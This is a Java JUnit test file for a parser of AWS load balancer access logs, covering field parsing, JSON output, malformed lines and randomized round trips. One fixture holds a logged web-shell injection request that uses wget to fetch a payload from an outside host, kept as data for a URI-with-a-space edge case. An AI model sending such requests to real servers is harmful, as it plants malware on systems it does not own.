package io.cloudir.model.elb;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.quicktheories.QuickTheory.qt;
import static org.quicktheories.generators.SourceDSL.longs;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.cloudir.model.MalformedInputException;
import io.cloudir.model.SourceType;
import io.cloudir.model.net.IpAddress;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.SplittableRandom;
import org.junit.jupiter.api.Test;

/** Load balancer access log lines of the three kinds, the odd cases of the corpus, round trips. */
class LoadBalancerLogRecordTest {
  private static final ObjectMapper JSON = new ObjectMapper();

  static final String ALB = "https 2018-07-02T22:23:00.186641Z app/my-loadbalancer/50dc6c495c0c9188"
      + " 192.168.131.39:2817 10.0.0.1:80 0.086 0.048 0.037 200 200 0 57"
      + " \"GET https://www.example.com:443/ HTTP/1.1\" \"curl/7.46.0\" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2"
      + " arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067"
      + " \"Root=1-58337281-1d84f3d73c47ec4e58577259\" \"www.example.com\""
      + " \"arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012\""
      + " 1 2018-07-02T22:22:48.364000Z \"authenticate,forward\" \"-\" \"-\" \"10.0.0.1:80\" \"200\" \"-\" \"-\""
      + " TID_1234abcd5678ef90";

  static JsonNode json(String s) throws Exception {
    return JSON.readTree(s);
  }

  @Test
  void applicationLoadBalancerFields() throws Exception {
    LoadBalancerLogRecord r = LoadBalancerLogRecord.parse(ALB);
    assertEquals(SourceType.ALB, r.source());
    assertEquals(LoadBalancerKind.APPLICATION, r.kind());
    assertEquals(30, r.fieldCount());
    assertEquals("https", r.type());
    assertEquals(Instant.parse("2018-07-02T22:23:00.186641Z"), r.time());
    assertEquals("app/my-loadbalancer/50dc6c495c0c9188", r.elb());
    assertEquals(IpAddress.parse("192.168.131.39"), r.clientIp());
    assertEquals(2817, r.clientPort());
    assertEquals(IpAddress.parse("10.0.0.1"), r.targetIp());
    assertEquals(80, r.targetPort());
    assertEquals(0.086, r.getDecimal(LoadBalancerField.REQUEST_PROCESSING_TIME));
    assertEquals(0.048, r.getDecimal(LoadBalancerField.TARGET_PROCESSING_TIME));
    assertEquals(200, r.elbStatusCode());
    assertEquals(200, r.targetStatusCode());
    assertEquals(0, r.receivedBytes());
    assertEquals(57, r.sentBytes());
    assertEquals("GET https://www.example.com:443/ HTTP/1.1", r.request());
    assertEquals("curl/7.46.0", r.userAgent());
    assertEquals("Root=1-58337281-1d84f3d73c47ec4e58577259", r.traceId());
    assertEquals("www.example.com", r.domainName());
    assertEquals("arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012", r.chosenCertArn());
    assertEquals(1, r.getLong(LoadBalancerField.MATCHED_RULE_PRIORITY));
    assertEquals("2018-07-02T22:22:48.364000Z", r.get(LoadBalancerField.REQUEST_CREATION_TIME));
    assertEquals("authenticate,forward", r.actionsExecuted());
    assertNull(r.get(LoadBalancerField.REDIRECT_URL));
    assertNull(r.errorReason());
    assertEquals("10.0.0.1:80", r.get(LoadBalancerField.TARGET_PORT_LIST));
    assertEquals("200", r.get(LoadBalancerField.TARGET_STATUS_CODE_LIST));
    assertNull(r.classification());
    assertEquals("TID_1234abcd5678ef90", r.connTraceId());
    assertFalse(r.has(LoadBalancerField.TRANSFORMED_HOST));
    assertFalse(r.has(LoadBalancerField.BACKEND), "a Classic field is not in an ALB line");
    assertTrue(r.warnings().isEmpty());

    JsonNode j = json(r.toJson());
    assertEquals(32, j.size(), "30 fields; the two ip:port fields become four keys");
    assertEquals("192.168.131.39", j.get("client_ip").asText());
    assertEquals(2817, j.get("client_port").asInt());
    assertEquals("10.0.0.1", j.get("target_ip").asText());
    assertEquals(80, j.get("target_port").asInt());
    assertTrue(j.get("request_processing_time").isNumber());
    assertEquals(0.086, j.get("request_processing_time").asDouble());
    assertTrue(j.get("elb_status_code").isIntegralNumber());
    assertTrue(j.get("redirect_url").isNull());
    assertEquals("TID_1234abcd5678ef90", j.get("conn_trace_id").asText());
    assertEquals("2018-07-02T22:23:00.186641Z", j.get("time").asText());
  }

  @Test
  void ipv6EndpointsAndLaterFields() throws Exception {
    String line = ALB.replace("192.168.131.39:2817 10.0.0.1:80", "[fe80::202:b3ff:fe1e:8329]:443 [2001:db8::1]:80")
        + " \"-\" \"/new/path?x=1\" \"TransformSucceeded\" future \"quoted future\"";
    LoadBalancerLogRecord r = LoadBalancerLogRecord.parse(line);
    assertEquals(IpAddress.parse("fe80::202:b3ff:fe1e:8329"), r.clientIp());
    assertEquals(443, r.clientPort());
    assertEquals(IpAddress.parse("2001:db8::1"), r.targetIp());
    assertNull(r.get(LoadBalancerField.TRANSFORMED_HOST));
    assertEquals("/new/path?x=1", r.get(LoadBalancerField.TRANSFORMED_URI));
    assertEquals("TransformSucceeded", r.get(LoadBalancerField.REQUEST_TRANSFORM_STATUS));
    assertEquals(List.of("future", "quoted future"), r.extraFields());
    JsonNode j = json(r.toJson());
    assertEquals("fe80::202:b3ff:fe1e:8329", j.get("client_ip").asText());
    assertEquals("2001:db8::1", j.get("target_ip").asText());
    assertEquals(2, j.get("extra_fields").size());
  }

  @Test
  void fiveOctetClientIsKeptWithAWarning() throws Exception {
    // grafana/loki test data: sanitisation left a five-octet client address
    String line = "http 2022-12-06T17:42:16.176563Z random/lb/f12345d67890 12.34.178.90.32:40860 - -1 -1 -1 301 - 204 333"
        + " \"GET http://5.334.234.101:80/ HTTP/1.1\" \"Mozilla/5.0 (Windows NT 10.0; Win64; x64)\" - - -"
        + " \"Root=1-638f7ef8-1e68129e21ae504b7de0da3b\" \"-\" \"-\" 0 2022-12-06T17:42:16.176000Z \"redirect\""
        + " \"https://5.334.234.101:443/\" \"-\" \"-\" \"-\" \"-\" \"-\"";
    LoadBalancerLogRecord r = LoadBalancerLogRecord.parse(line);
    assertNull(r.clientIp());
    assertEquals("12.34.178.90.32", r.host(LoadBalancerField.CLIENT));
    assertEquals(40860, r.clientPort());
    assertNull(r.targetIp());
    assertEquals(-1, r.targetPort());
    assertEquals(-1.0, r.getDecimal(LoadBalancerField.REQUEST_PROCESSING_TIME));
    assertEquals(-1, r.targetStatusCode());
    assertEquals(1, r.warnings().size());
    assertEquals("client.malformed", r.warnings().get(0).code());
    JsonNode j = json(r.toJson());
    assertEquals("12.34.178.90.32", j.get("client_ip").asText());
    assertEquals(40860, j.get("client_port").asInt());
    assertTrue(j.get("target_ip").isNull());
    assertTrue(j.get("target_port").isNull());
    assertEquals(-1, j.get("target_processing_time").asInt());
    assertEquals("https://5.334.234.101:443/", j.get("redirect_url").asText());
  }

  @Test
  void quotesAndSpacesInsideTheRequestAndUserAgent() {
    // a space in the URI (ALB logs it as is) and a user agent with a quote followed by a space
    String line = "http 2022-05-12T06:41:29.051646Z app/admin/3011821a43ee0c5e 75.100.154.140:41542 - -1 -1 -1 301 - 233 390"
        + " \"GET http://127.0.0.1:80/shell?cd+/tmp;wget+ a.tk/jaws HTTP/1.1\" \"Alba 10\" Build/LMY47I\" - - -"
        + " \"Root=1-627cac19-4c6df30820daa80e3fd72ced\" \"-\" \"-\" 0 2022-05-12T06:41:29.051000Z \"redirect\""
        + " \"https://127.0.0.1:443/shell?cd+/tmp;wget+ a.tk/jaws\" \"-\" \"-\" \"-\" \"Acceptable\" \"SpaceInUri\"";
    LoadBalancerLogRecord r = LoadBalancerLogRecord.parse(line);
    assertEquals("GET http://127.0.0.1:80/shell?cd+/tmp;wget+ a.tk/jaws HTTP/1.1", r.request());
    assertEquals("Alba 10\" Build/LMY47I", r.userAgent());
    assertNull(r.get(LoadBalancerField.SSL_CIPHER));
    assertEquals("Root=1-627cac19-4c6df30820daa80e3fd72ced", r.traceId());
    assertEquals("https://127.0.0.1:443/shell?cd+/tmp;wget+ a.tk/jaws", r.get(LoadBalancerField.REDIRECT_URL));
    assertEquals("Acceptable", r.classification());
    assertEquals("SpaceInUri", r.get(LoadBalancerField.CLASSIFICATION_REASON));
  }

  @Test
  void networkLoadBalancerTlsEntry() throws Exception {
    String line = "tls 2.0 2020-04-01T08:51:42 net/my-network-loadbalancer/c6e77e28c25b2234 g3d4b5e8bb8464cd"
        + " 72.21.218.154:51341 172.100.100.185:443 5 2 98 246 -"
        + " arn:aws:acm:us-east-2:671290407336:certificate/2a108f19-aded-46b0-8493-c63eb1ef4a99 -"
        + " ECDHE-RSA-AES128-SHA tlsv12 - my-network-loadbalancer-c6e77e28c25b2234.elb.us-east-2.amazonaws.com"
        + " h2 h2 \"h2\",\"http/1.1\" 2020-04-01T08:51:20";
    LoadBalancerLogRecord r = LoadBalancerLogRecord.parse(line);
    assertEquals(LoadBalancerKind.NETWORK, r.kind());
    assertEquals(22, r.fieldCount());
    assertEquals("tls", r.type());
    assertEquals("2.0", r.get(LoadBalancerField.VERSION));
    assertEquals(Instant.parse("2020-04-01T08:51:42Z"), r.time(), "an NLB time without zone is UTC");
    assertEquals("g3d4b5e8bb8464cd", r.get(LoadBalancerField.LISTENER));
    assertEquals(IpAddress.parse("172.100.100.185"), r.targetIp());
    assertEquals(443, r.port(LoadBalancerField.DESTINATION));
    assertEquals(5, r.getLong(LoadBalancerField.CONNECTION_TIME));
    assertEquals(2, r.getLong(LoadBalancerField.TLS_HANDSHAKE_TIME));
    assertEquals(98, r.receivedBytes());
    assertNull(r.get(LoadBalancerField.INCOMING_TLS_ALERT));
    assertEquals("tlsv12", r.get(LoadBalancerField.TLS_PROTOCOL_VERSION));
    assertEquals("\"h2\",\"http/1.1\"", r.get(LoadBalancerField.ALPN_CLIENT_PREFERENCE_LIST));
    assertEquals(-1, r.elbStatusCode(), "NLB entries have no status");
    JsonNode j = json(r.toJson());
    assertEquals("2020-04-01T08:51:42Z", j.get("time").asText());
    assertEquals("2020-04-01T08:51:20Z", j.get("tls_connection_creation_time").asText());
    assertEquals("172.100.100.185", j.get("destination_ip").asText());
    assertEquals("2.0", j.get("version").asText());
    assertTrue(j.get("connection_time").isIntegralNumber());
  }

  @Test
  void classicLayouts() throws Exception {
    LoadBalancerLogRecord tcp = LoadBalancerLogRecord.parse("2015-05-13T23:39:43.945958Z my-loadbalancer"
        + " 192.168.131.39:2817 10.0.0.1:80 0.001065 0.000015 0.000023 - - 57 502 \"- - - \" \"-\""
        + " ECDHE-ECDSA-AES128-GCM-SHA256 TLSv1.2");
    assertEquals(LoadBalancerKind.CLASSIC, tcp.kind());
    assertNull(tcp.type());
    assertEquals("- - - ", tcp.request(), "a TCP listener's request");
    assertNull(tcp.userAgent());
    assertEquals(-1, tcp.elbStatusCode());
    assertEquals(IpAddress.parse("10.0.0.1"), tcp.targetIp());
    assertEquals("TLSv1.2", tcp.get(LoadBalancerField.SSL_PROTOCOL));
    JsonNode j = json(tcp.toJson());
    assertEquals("10.0.0.1", j.get("backend_ip").asText());
    assertTrue(j.get("elb_status_code").isNull());
    assertEquals(0.001065, j.get("request_processing_time").asDouble());

    LoadBalancerLogRecord twelve = LoadBalancerLogRecord.parse("2015-04-10T08:11:09.865823Z us-west-1-production-media"
        + " 49.150.87.133:55128 - -1 -1 -1 408 - 1294336 0 \"PUT https://media.example.com:443/videos/F4 HTTP/1.1\"");
    assertEquals(12, twelve.fieldCount());
    assertEquals(408, twelve.elbStatusCode());
    assertNull(twelve.targetIp());
    assertFalse(twelve.has(LoadBalancerField.USER_AGENT));
    assertEquals("PUT https://media.example.com:443/videos/F4 HTTP/1.1", twelve.request());
    assertFalse(json(twelve.toJson()).has("user_agent"));
  }

  @Test
  void controlLinesAndMalformedLines() {
    byte[] c = "Enable AccessLog for ELB: app/elb-name/abc123456 at 2025-05-30T16:47:00.781Z".getBytes(StandardCharsets.UTF_8);
    assertTrue(LoadBalancerLogRecord.isControlLine(c, 0, c.length));
    assertFalse(LoadBalancerLogRecord.isControlLine(ALB.getBytes(StandardCharsets.UTF_8), 0, ALB.length()));
    assertThrows(MalformedInputException.class, () -> LoadBalancerLogRecord.parse(new String(c, StandardCharsets.UTF_8)));
    MalformedInputException few = assertThrows(MalformedInputException.class,
        () -> LoadBalancerLogRecord.parse("http 2018-07-02T22:23:00.186641Z app/x 1.2.3.4:5 - 0 0 0 200 200 1 2"));
    assertTrue(few.reason().contains("expected at least 18 fields"), few.reason());
    MalformedInputException open = assertThrows(MalformedInputException.class,
        () -> LoadBalancerLogRecord.parse("http 2018-07-02T22:23:00.186641Z app/x 1.2.3.4:5 - 0 0 0 200 200 1 2 \"GET /"));
    assertTrue(open.reason().contains("unterminated"), open.reason());
  }

  // ---- round trips: random lines of each kind -> record -> values and JSON ----

  static String token(SplittableRandom r) {
    String a = "abcXYZ0123456789-_./:=+@,";
    int n = 1 + r.nextInt(10);
    StringBuilder sb = new StringBuilder();
    for (int i = 0; i < n; i++) {
      sb.append(a.charAt(r.nextInt(a.length())));
    }
    return sb.toString();
  }

  static String text(SplittableRandom r) {
    String a = "ab Z0/?&é\"";
    int n = r.nextInt(16);
    StringBuilder sb = new StringBuilder();
    for (int i = 0; i < n; i++) {
      sb.append(a.charAt(r.nextInt(a.length())));
    }
    String s = sb.toString().replace("\" ", "\"x ");
    while (s.endsWith("\"")) {
      s = s.substring(0, s.length() - 1);
    }
    return s;
  }

  static String endpoint(SplittableRandom r) {
    int port = r.nextInt(65536);
    return r.nextBoolean() ? IpAddress.ofV4(r.nextInt()) + ":" + port
        : "[" + IpAddress.ofV6(r.nextLong(), r.nextLong()) + "]:" + port;
  }

  @Test
  void roundTripThroughTheLineAndJson() {
    qt().forAll(longs().all()).checkAssert(seed -> roundTrip(new SplittableRandom(seed)));
  }

  private static void roundTrip(SplittableRandom r) {
    LoadBalancerKind kind = LoadBalancerKind.values()[r.nextInt(3)];
    List<LoadBalancerField> layout = LoadBalancerLogRecord.layoutOf(kind);
    int min = kind == LoadBalancerKind.APPLICATION ? LoadBalancerLogRecord.MIN_ALB_FIELDS
        : kind == LoadBalancerKind.NETWORK ? LoadBalancerLogRecord.MIN_NLB_FIELDS : LoadBalancerLogRecord.MIN_CLB_FIELDS;
    int n = min + r.nextInt(layout.size() - min + 1);
    Instant t = Instant.ofEpochSecond(r.nextLong(4_000_000_000L), r.nextInt(1_000_000) * 1000L);
    List<String> values = new ArrayList<>();
    StringBuilder line = new StringBuilder();
    for (int i = 0; i < n; i++) {
      LoadBalancerField f = layout.get(i);
      String v;
      boolean quoted = kind != LoadBalancerKind.NETWORK && (f == LoadBalancerField.REQUEST
          || f == LoadBalancerField.USER_AGENT || (kind == LoadBalancerKind.APPLICATION && i >= 17 && i != 20 && i != 21 && i != 29));
      if (f == LoadBalancerField.TYPE) {
        v = kind == LoadBalancerKind.NETWORK ? "tls" : new String[] {"http", "https", "h2", "grpcs", "ws", "wss"}[r.nextInt(6)];
      } else if (f == LoadBalancerField.VERSION) {
        v = "2.0";
      } else if (f == LoadBalancerField.TIME) {
        v = kind == LoadBalancerKind.NETWORK ? t.toString().replace("Z", "").replaceAll("\\.\\d+$", "") : t.toString();
      } else if (r.nextInt(6) == 0) {
        v = "-";
      } else if (f.isAddressAndPort()) {
        v = endpoint(r);
      } else if (f == LoadBalancerField.REQUEST || f == LoadBalancerField.USER_AGENT || f == LoadBalancerField.REDIRECT_URL) {
        v = text(r);
      } else if (f == LoadBalancerField.REQUEST_CREATION_TIME || f == LoadBalancerField.TLS_CONNECTION_CREATION_TIME) {
        v = kind == LoadBalancerKind.NETWORK ? "2020-04-01T08:51:20" : "2018-07-02T22:22:48.364000Z";
      } else if (f.name().endsWith("_TIME") && kind != LoadBalancerKind.NETWORK) {
        v = r.nextInt(10) == 0 ? "-1" : String.format(java.util.Locale.ROOT, "%.3f", r.nextInt(100000) / 1000.0);
      } else if (f.name().endsWith("_CODE") || f.name().endsWith("_BYTES") || f.name().endsWith("_TIME")
          || f == LoadBalancerField.MATCHED_RULE_PRIORITY) {
        v = Long.toString(r.nextLong(1L << 40) - (f == LoadBalancerField.MATCHED_RULE_PRIORITY ? 1 : 0));
      } else {
        v = token(r);
      }
      if (f == LoadBalancerField.REDIRECT_URL && !quoted) {
        v = token(r);
      }
      values.add(v);
      if (i > 0) {
        line.append(' ');
      }
      line.append(quoted ? "\"" + v + "\"" : v);
    }
    String l = line.toString();
    if (l.startsWith("Enable AccessLog")) {
      return;
    }
    LoadBalancerLogRecord rec = LoadBalancerLogRecord.parse(l);
    assertEquals(kind, rec.kind(), l);
    assertEquals(n, rec.fieldCount(), l);
    assertEquals(l, rec.line());
    JsonNode j;
    try {
      j = json(rec.toJson());
    } catch (Exception x) {
      throw new AssertionError(rec.toJson(), x);
    }
    for (int i = 0; i < n; i++) {
      LoadBalancerField f = layout.get(i);
      String v = values.get(i);
      String expected = v.equals("-") ? null : v;
      assertEquals(expected, rec.get(f), f + " in " + l);
      if (f.isAddressAndPort()) {
        JsonNode ip = j.get(f.jsonName() + "_ip");
        JsonNode port = j.get(f.jsonName() + "_port");
        if (expected == null) {
          assertTrue(ip.isNull() && port.isNull(), l);
        } else {
          int c = v.lastIndexOf(':');
          assertEquals(IpAddress.parse(v.substring(0, c).replace("[", "").replace("]", "")), IpAddress.parse(ip.asText()));
          assertEquals(Integer.parseInt(v.substring(c + 1)), port.asInt());
          assertEquals(Integer.parseInt(v.substring(c + 1)), rec.port(f));
        }
      } else if (expected == null) {
        assertTrue(j.get(f.jsonName()).isNull(), f + " " + j);
      } else if (f == LoadBalancerField.TIME) {
        assertEquals(t.getEpochSecond(), rec.time().getEpochSecond(), l);
      } else if (!f.name().contains("TIME") && (f.name().endsWith("_CODE") || f.name().endsWith("_BYTES")
          || f == LoadBalancerField.MATCHED_RULE_PRIORITY)) {
        assertTrue(j.get(f.jsonName()).isIntegralNumber(), f + " " + j);
        assertEquals(Long.parseLong(v), j.get(f.jsonName()).asLong());
      } else if (f.name().endsWith("PROCESSING_TIME")) {
        assertTrue(j.get(f.jsonName()).isNumber(), f + " " + j);
        assertEquals(Double.parseDouble(v), j.get(f.jsonName()).asDouble());
      } else if (!f.name().contains("TIME")) {
        assertEquals(v, j.get(f.jsonName()).asText(), f + " " + j);
      }
    }
    assertFalse(rec.hasWarnings(), l + " " + rec.warnings());
  }
}
